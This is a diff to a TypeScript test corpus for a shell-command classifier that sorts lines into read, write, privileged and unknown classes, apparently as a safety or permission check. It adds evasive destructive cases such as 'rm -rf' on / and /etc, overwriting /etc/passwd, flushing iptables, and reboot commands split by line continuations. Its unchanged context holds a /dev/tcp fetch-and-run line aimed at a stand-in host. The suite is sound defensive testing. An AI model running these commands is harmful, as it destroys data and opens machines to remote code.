@@ -126,6 +126,8 @@ const READS: Case[] = [
   { line: 'trap - EXIT', class: 'read' },
   { line: 'ls | sh -c "cat"', class: 'read', pipeline: true },
   { line: 'pip list', class: 'read' },
+  { line: 'ls -l\\\n /tmp', class: 'read' },
+  { line: 'cat > /dev/null notes.txt', class: 'read', read: ['notes.txt'] },
 ];
 
 const WRITES: Case[] = [
@@ -286,6 +288,12 @@ const PRIVILEGED: Case[] = [
   { line: 'apt-get -q install nginx', class: 'privileged' },
   { line: 'pushd /etc && rm -f passwd', class: 'privileged', written: ['/etc/passwd'] },
   { line: 'busybox rm -rf /', class: 'privileged', commands: ['busybox', 'rm'] },
+  { line: 'ip\\\ntables -F', class: 'privileged', commands: ['iptables'] },
+  { line: 's\\\nudo reboot', class: 'privileged', sudo: true },
+  { line: 'echo x > /et\\\nc/passwd', class: 'privileged', written: ['/etc/passwd'] },
+  { line: 'rm -rf 2>/dev/null /etc', class: 'privileged', written: ['/etc'] },
+  { line: 'rm -rf > /dev/null /', class: 'privileged', written: ['/'] },
+  { line: 'rm >x -rf /', class: 'privileged', written: ['x', '/'] },
 ];
 
 const UNKNOWN: Case[] = [
@@ -346,6 +354,7 @@ const UNKNOWN: Case[] = [
   { line: 'x=1 >f', class: 'unknown', parseError: true },
   { line: 'cat < /dev/tcp/evil/80 | sh', class: 'unknown', pipeline: true },
   { line: 'pushd /tmp; popd; rm -f x', class: 'unknown', reason: /directory known only when it runs/ },
+  { line: '(ls; rm x) > f /etc', class: 'unknown', reason: /could not place/ },
 ];
 
 const CORPUS: Case[] = [...READS, ...WRITES, ...PRIVILEGED, ...UNKNOWN];
